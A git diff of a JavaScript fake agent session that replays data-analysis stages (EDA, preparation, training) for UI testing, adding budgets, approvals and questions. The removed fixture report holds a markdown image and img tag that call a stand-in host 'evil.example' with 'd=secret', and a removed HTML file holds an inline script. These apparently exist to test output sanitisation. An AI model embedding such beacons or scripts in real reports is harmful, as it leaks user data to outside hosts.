@@ -1,39 +1,26 @@
 /** A session that plays what an agent would do, event by event. */
-import { barChart } from "./png.mjs";
+import { scenes } from "./fake-scenes.mjs";
+import { stages } from "./fake-stages.mjs";
 
 const order = ["EDA", "PREP", "TRAIN"];
 
-const report = `# Penguins: what the data says
-
-344 rows, 7 columns. The target \`species\` has **three classes**, the smallest of them with 20 % of the rows.
-
-![Rows by species](figures/species.png)
-
-## Columns
-
-| column | type | missing | note |
-|---|---|---:|---|
-| bill_length_mm | number | 2 | separates Adelie from the others |
-| flipper_length_mm | number | 2 | r = 0.87 with body mass |
-| island | category | 0 | Torgersen holds Adelie alone |
-| sex | category | 11 | missing at random as far as the data tells |
-
-## What to watch
-
-1. \`body_mass_g\` and \`flipper_length_mm\` carry much the same.
-2. Eleven rows say no sex; imputing is better than dropping them.
-
-![Out of the way](https://evil.example/?d=secret) <img src="https://evil.example/x">
-`;
-
-const code = `# Shape, types and missing values of every column.
-import pandas as pd
-
-df = pd.read_csv("/data/datasets/e1/penguins.csv")
-print(df.shape)
-for name in df.columns:
-    print(f"{name:20} {df[name].dtype!s:10} {df[name].isna().sum():4d} missing")
-`;
+const usual = {
+  executionSeconds: 600,
+  memoryMib: 4096,
+  turns: 30,
+  stageSeconds: 3600,
+  stageTokens: null,
+  stageUsd: null,
+  stageSandboxSeconds: null,
+  sessionTurns: null,
+  sessionSeconds: null,
+  sessionTokens: null,
+  sessionUsd: 5,
+  sessionSandboxSeconds: null,
+};
+/** As they are held: no limit, 0 in an input, is null. */
+const budgetsOf = (input) =>
+  Object.fromEntries(Object.entries({ ...usual, ...input }).map(([name, value]) => [name, value || null]));
 
 export class FakeSession {
   state = "CREATED";
@@ -44,8 +31,13 @@ export class FakeSession {
   live = new Set();
   messages = 0;
   timers = new Set();
+  budgets = null;
+  answering = false;
+  awaitingApproval = null;
+  open = null;
 
-  constructor(id, experiment, pace) {
+  constructor(id, experiment, pace, own = {}) {
+    this.own = own;
     this.id = id;
     this.experiment = experiment;
     this.pace = pace;
@@ -62,7 +54,7 @@ export class FakeSession {
 
   say(fields) {
     for (const listener of this.live)
-      listener({ __typename: "TextDeltaEvent", seq: null, at: null, stageRunId: this.current?.id, ...fields });
+      listener({ __typename: "TextDeltaEvent", seq: null, at: null, stageRunId: this.current?.id ?? null, ...fields });
   }
 
   get current() {
@@ -75,9 +67,13 @@ export class FakeSession {
     return {
       startStages: running ? [] : order.filter((_, at) => at <= done.length),
       retry: this.state === "FAILED" || this.state === "CANCELLED",
-      cancel: running,
+      resume: this.state === "FAILED" || this.state === "CANCELLED",
+      cancel: running || this.answering,
       message: this.runs.length > 0,
-      answer: running,
+      answer: this.open !== null,
+      approve: this.awaitingApproval,
+      interrupt: running || this.answering,
+      setBudgets: running,
     };
   }
 
@@ -112,14 +108,39 @@ export class FakeSession {
     });
   }
 
-  async start(stage, through = stage) {
+  get spent() {
+    const of = (name) => this.events.filter(({ __typename }) => __typename === name);
+    const usage = of("UsageRecordedEvent");
+    const sum = (list, value) => list.reduce((total, one) => total + value(one), 0);
+    const read = sum(usage, (one) => one.inputTokens + one.cacheReadTokens + one.cacheWriteTokens);
+    return {
+      turns: usage.length,
+      tokens: read + sum(usage, (one) => one.outputTokens),
+      costUsd: usage.some(({ costUsd }) => costUsd === null) ? null : sum(usage, ({ costUsd }) => costUsd),
+      seconds: sum(
+        this.runs,
+        (run) => ((run.endedAt ? Date.parse(run.endedAt) : Date.now()) - Date.parse(run.startedAt)) / 1000,
+      ),
+      sandboxSeconds: sum(of("ExecutionEndedEvent"), ({ durationMs }) => durationMs / 1000),
+      cachedShare: read > 0 ? sum(usage, (one) => one.cacheReadTokens) / read : null,
+      estimated: usage.some(({ estimated }) => estimated),
+    };
+  }
+
+  async start(stage, through = stage, terms = {}) {
+    this.awaitingApproval = null;
+    this.terms = terms;
+    this.scene = terms.scene;
+    this.budgets = budgetsOf(terms.budgets);
+    const later = terms.choices?.find((choice) => choice.stage === stage);
+    const { provider, model, effort } = later ?? terms;
     const run = {
       id: `run-${this.id}-${this.runs.length + 1}`,
       stage,
       through,
       state: "RUNNING",
-      provider: "autopilot",
-      model: "autopilot",
+      provider: provider ?? this.own.provider ?? "autopilot",
+      model: model ?? this.own.model ?? "autopilot",
       seed: 42,
       error: null,
       superseded: false,
@@ -129,13 +150,99 @@ export class FakeSession {
     for (const old of this.runs) if (order.indexOf(old.stage) >= order.indexOf(stage)) old.superseded = true;
     this.runs.push(run);
     this.state = `${stage}_RUNNING`;
-    this.append("StageRunStartedEvent", { stage, through, provider: run.provider, model: run.model, seed: 42 });
+    this.append("StageRunStartedEvent", {
+      stage,
+      through,
+      provider: run.provider,
+      model: run.model,
+      seed: 42,
+      effort: effort ?? this.own.effort ?? null,
+      approval: terms.approval ?? false,
+      budgets: this.budgets,
+    });
     this.append("StateChangeEvent", { state: this.state });
-    await this[stage](run);
+    await this.work(run);
+  }
+
+  async work(run) {
+    const { stage, through } = run;
+    if (this.scene) await scenes[this.scene](this, run);
+    this.scene = null;
+    if (run.state === "RUNNING") await stages[stage](this);
     if (run.state !== "RUNNING") return;
     this.end(run, "DONE", `${stage} is done.`);
     const next = order[order.indexOf(stage) + 1];
-    if (next && order.indexOf(through) > order.indexOf(stage)) await this.start(next, through);
+    if (!next || order.indexOf(through) <= order.indexOf(stage)) return;
+    const { scene: _played, ...terms } = this.terms;
+    if (!terms.approval) return this.start(next, through, terms);
+    this.awaitingApproval = next;
+    this.append("ApprovalAskedEvent", { stage: next, through });
+  }
+
+  approve(approved) {
+    const stage = this.awaitingApproval;
+    this.awaitingApproval = null;
+    this.append("ApprovalAnsweredEvent", { stage, approved });
+    if (approved) void this.start(stage, this.runs.at(-1).through, this.terms);
+  }
+
+  resume({ provider, model, budgets }) {
+    const run = this.runs.at(-1);
+    Object.assign(run, {
+      state: "RUNNING",
+      endedAt: null,
+      error: null,
+      provider: provider ?? run.provider,
+      model: model ?? run.model,
+    });
+    if (budgets) this.budgets = budgetsOf(budgets);
+    this.state = `${run.stage}_RUNNING`;
+    this.append("StageRunResumedEvent", {
+      stage: run.stage,
+      provider: run.provider,
+      model: run.model,
+      budgets: this.budgets,
+    });
+    this.append("StateChangeEvent", { state: this.state });
+    void this.work(run);
+  }
+
+  setBudgets(budgets) {
+    this.budgets = budgetsOf(budgets);
+    this.append("BudgetsSetEvent", { budgets: this.budgets });
+  }
+
+  /** Waits for an answer, or for the deadline, which answers with the default. */
+  async question(question, options, fallback, wait) {
+    const callId = `ask-${this.events.length}`;
+    const deadline = new Date(Date.now() + wait).toISOString();
+    this.open = { callId, question, options, default: fallback, deadline };
+    this.append("ToolStartEvent", { callId, tool: "ask_user", input: { question, options } });
+    this.append("QuestionAskedEvent", this.open);
+    const answer = await new Promise((resolve) => {
+      this.settle = resolve;
+      const timer = setTimeout(() => resolve(fallback), wait);
+      this.timers.add(timer);
+    });
+    this.open = null;
+    this.append("QuestionAnsweredEvent", { callId, answer });
+    this.append("ToolEndEvent", { callId, tool: "ask_user", output: answer, isError: false, durationMs: 10 });
+  }
+
+  /** Answers what was said between stages. */
+  async followUp(provider, model, scene) {
+    this.answering = true;
+    this.append("FollowUpStartedEvent", { provider, model });
+    if (scene === "ponders") {
+      this.say({ turn: 1, attempt: 1, offset: 0, text: "Both were close: the first column separates **Adelie** from" });
+      await this.sleep(5000);
+    }
+    await this.speak(
+      1,
+      "Because the flipper's length and the body's mass carry much the same, I kept the first **alone**.",
+    );
+    if (this.answering) this.append("FollowUpEndedEvent", { state: "DONE", error: null });
+    this.answering = false;
   }
 
   end(run, state, summary, error = null) {
@@ -149,20 +256,26 @@ export class FakeSession {
 
   cancel() {
     for (const timer of this.timers) clearTimeout(timer);
+    if (this.answering) this.append("FollowUpEndedEvent", { state: "CANCELLED", error: null });
+    this.answering = false;
+    this.open = null;
     if (this.current) this.end(this.current, "CANCELLED", null);
   }
 
-  message(text) {
+  message(text, interrupt, provider, scene) {
     this.messages += 1;
-    this.append("UserMessageEvent", { messageId: `m${this.messages}`, text });
+    this.append("UserMessageEvent", { messageId: `m${this.messages}`, text, interrupt: interrupt ?? false });
+    if (interrupt) this.stopped = true;
+    if (!this.current && provider?.converses) void this.followUp(provider.name, provider.defaultModel, scene);
   }
 
-  async speak(turn, text) {
+  async speak(turn, text, usage = {}) {
     this.append("TurnStartedEvent", { turn, attempt: 1 });
     for (let at = 0; at < text.length; at += 12) {
       this.say({ turn, attempt: 1, offset: at, text: text.slice(at, at + 12) });
       await this.sleep(0.2);
     }
+    if (!this.current && !this.answering) return;
     this.append("AgentMessageEvent", { messageId: `a${turn}-${this.events.length}`, turn, text });
     this.append("UsageRecordedEvent", {
       turn,
@@ -171,6 +284,8 @@ export class FakeSession {
       cacheReadTokens: 400,
       cacheWriteTokens: 0,
       costUsd: 0.012,
+      estimated: false,
+      ...usage,
     });
     this.append("TurnEndedEvent", { turn, attempt: 1, stopReason: "tool_use" });
   }
@@ -185,7 +300,9 @@ export class FakeSession {
       timeoutSeconds: 600,
       memoryMib: 4096,
     });
+    this.stopped = false;
     for (const line of output) {
+      if (this.stopped) break;
       this.append("CodeOutputEvent", {
         callId: call,
         stream: line.startsWith("!") ? "STDERR" : "STDOUT",
@@ -196,8 +313,8 @@ export class FakeSession {
     await work(call);
     this.append("ExecutionEndedEvent", {
       callId: call,
-      how: "EXITED",
-      code: 0,
+      how: this.stopped ? "TERMINATED" : "EXITED",
+      code: this.stopped ? null : 0,
       durationMs: 1200,
       cpuSeconds: 1,
       peakMemory: 210_000_000,
@@ -216,91 +333,5 @@ export class FakeSession {
   plan(...states) {
     const titles = ["Look at every column", "Draw the distributions", "Write the report"];
     this.append("PlanUpdatedEvent", { steps: titles.map((title, at) => ({ title, status: states[at] })) });
-  }
-
-  async EDA() {
-    this.plan("IN_PROGRESS", "PENDING", "PENDING");
-    await this.speak(
-      1,
-      "I will first look at the **shape**, the types and what is missing, then at how each column stands to `species`.",
-    );
-    const lines = [
-      "(344, 7)",
-      "species              object        0 missing",
-      "bill_length_mm       float64       2 missing",
-      "!FutureWarning: use_inf_as_na is deprecated",
-    ];
-    await this.execute("profile columns", code, lines);
-    this.plan("DONE", "IN_PROGRESS", "PENDING");
-    await this.execute("draw distributions", "import matplotlib\n", ["saved species.png"], async () => {
-      this.file("eda/figures/species.png", barChart([0.9, 0.72, 0.42]), "CHART");
-      this.file("eda/data/columns.csv", "column,missing\nspecies,0\nsex,11\n", "DATASET");
-    });
-    this.file("eda/report.md", report, "REPORT");
-    this.append("ReportReadyEvent", { stage: "EDA", path: "eda/report.md", content: report });
-    this.plan("DONE", "DONE", "DONE");
-  }
-
-  async PREP() {
-    await this.speak(1, "Split first, then fit every transform on train alone.");
-    const rows = Array.from(
-      { length: 240 },
-      (_, at) => `${(40 + (at % 17)).toFixed(1)},${at % 3},${at % 5 === 0 ? "" : "Biscoe"}`,
-    );
-    this.file("prep/data/train.csv", `bill_length_mm,species,island\n${rows.join("\n")}\n`, "DATASET");
-    this.file(
-      "prep/data/metadata.json",
-      '{"target_column":"species","problem_type":"classification","random_seed":42}',
-      "METADATA",
-    );
-    this.file("prep/summary.html", "<h1>Summary</h1><script>document.title='x'</script>", "FILE");
-    this.file("prep/scripts/step_01_split.py", code, "SCRIPT");
-    const text = "# Preparation\n\nThe rows were split 70/15/15, stratified by `species`.\n";
-    this.append("ReportReadyEvent", { stage: "PREP", path: "prep/report.md", content: text });
-    this.file("prep/report.md", text, "REPORT");
-    await this.sleep(2);
-  }
-
-  async TRAIN() {
-    await this.speak(1, "Baselines first, then boosted trees.");
-    const charts = [
-      { title: "Log loss", metrics: ["train_loss", "val_loss"], type: "line" },
-      { title: "Accuracy by model", metrics: ["val_accuracy"], type: "bar" },
-    ];
-    await this.execute("train models", "from trainable import log\n", ["training"], async (callId) => {
-      this.append("ChartConfigEvent", { callId, charts });
-      for (let step = 0; step < 60; step += 1) {
-        const items = ["lightgbm", "xgboost", "random_forest"].flatMap((run, at) => {
-          const loss = Math.exp(-step / (14 + 6 * at)) + 0.05 * Math.sin(step * (at + 2)) * Math.exp(-step / 40) + 0.08;
-          return [
-            { step, name: "train_loss", value: loss, kind: "FINITE", run },
-            { step, name: "val_loss", value: loss * 1.15 + 0.03, kind: "FINITE", run },
-            { step, name: "val_accuracy", value: 0.98 - loss / 3, kind: "FINITE", run },
-            step === 30 && at === 0
-              ? { step, name: "grad_norm", value: null, kind: "NAN", run }
-              : { step, name: "grad_norm", value: 4 / (1 + step), kind: "FINITE", run },
-          ];
-        });
-        this.append("MetricsBatchEvent", { callId, items });
-        await this.sleep(0.3);
-      }
-    });
-    this.file("train/models/model.pkl", Buffer.from([128, 4, 149, 0, 1, 2]), "MODEL");
-    const text = "# Training\n\n**lightgbm** does best: 0.981 on the test rows.\n";
-    this.append("ReportReadyEvent", { stage: "TRAIN", path: "train/report.md", content: text });
-    this.file("train/report.md", text, "REPORT");
-    this.append("ValidationResultEvent", {
-      stage: "TRAIN",
-      passed: ["the model loads", "metrics were logged"],
-      warnings: ["one feature carries 61 % of the importance"],
-      errors: [],
-    });
-    this.result = {
-      bestModel: "lightgbm",
-      metrics: [
-        { name: "accuracy", value: 0.981, lower: 0.942, upper: 1 },
-        { name: "f1_macro", value: 0.977, lower: 0.93, upper: 1 },
-      ],
-    };
   }
 }
